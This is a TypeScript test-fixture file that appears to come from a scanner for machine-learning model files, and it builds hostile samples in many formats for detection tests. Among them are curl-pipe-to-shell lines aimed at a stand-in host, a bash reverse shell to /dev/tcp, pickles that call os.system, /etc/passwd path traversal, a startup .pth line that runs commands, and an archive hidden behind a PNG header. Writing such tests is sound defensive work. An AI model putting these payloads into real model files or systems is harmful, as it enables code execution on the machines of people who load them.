import { bytesField, number } from '../../../service/inspect/fuzz/samples.ts';
import { callPickle } from '../pickle.ts';
import { forgeTar } from '../tar.ts';
import { forgeZip } from '../zip.ts';
import { cases, type HostileCase, join, json, utf8 } from './case.ts';

const evil = callPickle('os', 'system', 'id');
const command = "__import__('os').system('id')";
const xgboost = (learner: object): Uint8Array =>
  json({ learner: { gradient_booster: { name: 'gbtree', model: { trees: [] } }, ...learner }, version: [2, 1, 0] });
const lightgbm = (line: string): Uint8Array =>
  utf8(`tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\n\nend of trees\n\n${line}\n`);

const u32 = (value: number): Uint8Array => {
  const bytes = new Uint8Array(4);
  new DataView(bytes.buffer).setUint32(0, value, true);
  return bytes;
};
const u16 = (...values: number[]): Uint8Array => new Uint8Array(values.flatMap((value) => [value & 255, value >> 8]));
const flatText = (text: string): Uint8Array => join(u32(text.length), text, new Uint8Array(4 - (text.length % 4)));

/** A TensorFlow Lite file with one custom operator and a description. */
function tflite(custom: string, description = 'x'): Uint8Array {
  const name = flatText(custom);
  const said = flatText(description);
  // root, its table of offsets, its fields: version, operator codes, description; then one operator code.
  const vtable = u16(12, 20, 4, 8, 0, 12);
  const operatorVtable = u16(12, 12, 0, 4, 0, 8);
  const start = 8 + vtable.length;
  const codes = start + 20;
  const operatorAt = codes + 8;
  const operatorTable = operatorAt + operatorVtable.length;
  const nameAt = operatorTable + 12;
  const saidAt = nameAt + name.length;
  return join(
    u32(start),
    'TFL3',
    vtable,
    u32(vtable.length),
    u32(3),
    u32(codes - (start + 8)),
    u32(saidAt - (start + 12)),
    u32(0),
    u32(1),
    u32(operatorTable - (codes + 4)),
    operatorVtable,
    u32(operatorVtable.length),
    u32(nameAt - (operatorTable + 4)),
    u32(32),
    name,
    said,
  );
}

const coreml = (...description: Uint8Array[]): Uint8Array =>
  join(number(1, 5), bytesField(2, ...description), bytesField(500));
const coremlMeta = (...parts: Uint8Array[]): Uint8Array => coreml(bytesField(100, ...parts));

/** Formats whose own danger is small, with code in their texts, and files of formats that no reader knows. */
export function otherCases(): HostileCase[] {
  return [
    ...cases('model.json', 'high', {
      'XGBoost with a command in an attribute': xgboost({ attributes: { best_iteration: '1', hook: command } }),
      'XGBoost with a command in the objective': xgboost({ objective: { name: command } }),
      'XGBoost with a command as a feature': xgboost({ feature_names: ['a', 'curl http://x.invalid/a | sh'] }),
      'XGBoost with a pickle in an attribute': xgboost({
        attributes: { scikit_learn: Buffer.from(evil).toString('base64') },
      }),
      'XGBoost without trees that breaks': utf8('{"learner":{"gradient_booster":{'),
      'a list of settings with a command': json([{ run: command }]),
    }),
    ...cases('model.txt', 'high', {
      'LightGBM with a command': lightgbm(`[hook: ${command}]`),
      'LightGBM with a download': lightgbm('parameters: curl http://x.invalid/a | sh'),
      'LightGBM that is cut off': utf8('tree\nversion=v4\nnum_class=1\nTree=0\n'),
    }),
    ...cases('model.tflite', 'high', {
      'the operator FlexReadFile': tflite('FlexReadFile'),
      'the operator FlexWriteFile': tflite('FlexWriteFile'),
      'the operator FlexPyFunc': tflite('FlexPyFunc'),
      'the operator FlexEagerPyFunc': tflite('FlexEagerPyFunc'),
      'the operator FlexLoadLibrary': tflite('FlexLoadLibrary'),
      'the operator FlexShellExecute': tflite('FlexShellExecute'),
      'a command as a description': tflite('X', command),
      'an offset out of the file': join(u32(0x7fffffff), 'TFL3', new Uint8Array(40)),
      'a table out of the file': join(u32(8), 'TFL3', u32(0x7fffffff), new Uint8Array(40)),
      'a list longer than the file': join(
        u32(16),
        'TFL3',
        u16(8, 12, 0, 4),
        u32(8),
        u32(4),
        u32(0x7fffffff),
        new Uint8Array(8),
      ),
      'no content': join(u32(0), 'TFL3'),
    }),
    ...cases('model.mlmodel', 'high', {
      'Core ML with a command as its description': coremlMeta(bytesField(1, command)),
      'Core ML with a command among its settings': coremlMeta(
        bytesField(100, bytesField(1, 'hook'), bytesField(2, command)),
      ),
      'Core ML with a model of its own class': join(
        number(1, 5),
        bytesField(2),
        bytesField(555, bytesField(1, 'EvilModel')),
      ),
    }),
    ...cases('model.cbm', 'high', {
      'CatBoost that lies about its length': join('CBM1', u32(0x7fffffff), new Uint8Array(40)),
    }),
    ...cases('model.engine', 'high', {
      'an engine with a command': join(
        'ptrt\x00\x01\x02\x03',
        new Uint8Array(100),
        'curl http://x.invalid/a | bash',
        new Uint8Array(50),
      ),
      'an engine with Python': join(
        'ptrt\x00\x01\x02\x03',
        new Uint8Array(100),
        "import os\nos.system('id')",
        new Uint8Array(50),
      ),
    }),
    ...cases('model.msgpack', 'high', {
      'weights of Flax with code': join('\x81\xa6params\xd9\x30', "__import__('os').system('id')", new Uint8Array(30)),
    }),
    ...cases('model.pdmodel', 'high', {
      'a program of Paddle with code': join(
        '\x0a\x80\x01\x08\x00',
        new Uint8Array(20),
        "subprocess.run(['id'])",
        new Uint8Array(20),
      ),
    }),
    ...cases('model.params', 'high', {
      'weights of MXNet with a shell': join(
        '\x12\x01\x00\x00\x00\x00\x00\x00',
        new Uint8Array(20),
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        new Uint8Array(20),
      ),
    }),
    ...cases('model.rds', 'high', { 'data of R': utf8('X\n\0\0\0\x03\0\x04\x02\x01\0\x03\x05\0') }),
    ...cases('module.pyc', 'high', {
      'compiled Python 3.11': join('\xa7\x0d\x0d\x0a\x00\x00\x00\x00', new Uint8Array(40)),
      'compiled Python 3.12': join('\xcb\x0d\x0d\x0a\x00\x00\x00\x00', new Uint8Array(40)),
    }),
    ...cases('pytorch_model.bin.index.json', 'high', {
      'a part out of the folder': json({ metadata: {}, weight_map: { a: '../../../etc/passwd' } }),
      'a part by its whole path': json({ weight_map: { a: '/etc/passwd' } }),
    }),
    ...cases('settings.toml', 'high', { 'a command': utf8('[run]\nhook = "curl http://x.invalid/a | sh"\n') }),
    ...cases('model.nemo', 'high', {
      'settings that call': forgeTar('./model_config.yaml', utf8('model:\n  _target_: os.system\n  command: id\n')),
      'a pickle as the weights': forgeTar('./model_weights.ckpt', evil),
    }),
    ...cases('model.mar', 'high', {
      'a handler that runs commands': forgeZip({
        members: [
          { name: 'MAR-INF/MANIFEST.json', content: json({ model: { handler: 'handler.py' } }) },
          { name: 'handler.py', content: "import subprocess\nsubprocess.run(['id'])\n" },
        ],
      }),
    }),
    ...cases('model.png', 'high', {
      'a picture with an archive behind it': join(
        '\x89PNG\r\n\x1a\n',
        new Uint8Array(100),
        forgeZip({ members: [{ name: 'data.pkl', content: evil }] }),
      ),
    }),
    ...cases('model.pth', 'high', { 'a line that Python runs when it starts': utf8("import os; os.system('id')\n") }),
    ...cases('model.h5', 'high', {
      'the mark of HDF5 and nothing else': join('\x89HDF\r\n\x1a\n', new Uint8Array(200)),
    }),
  ];
}
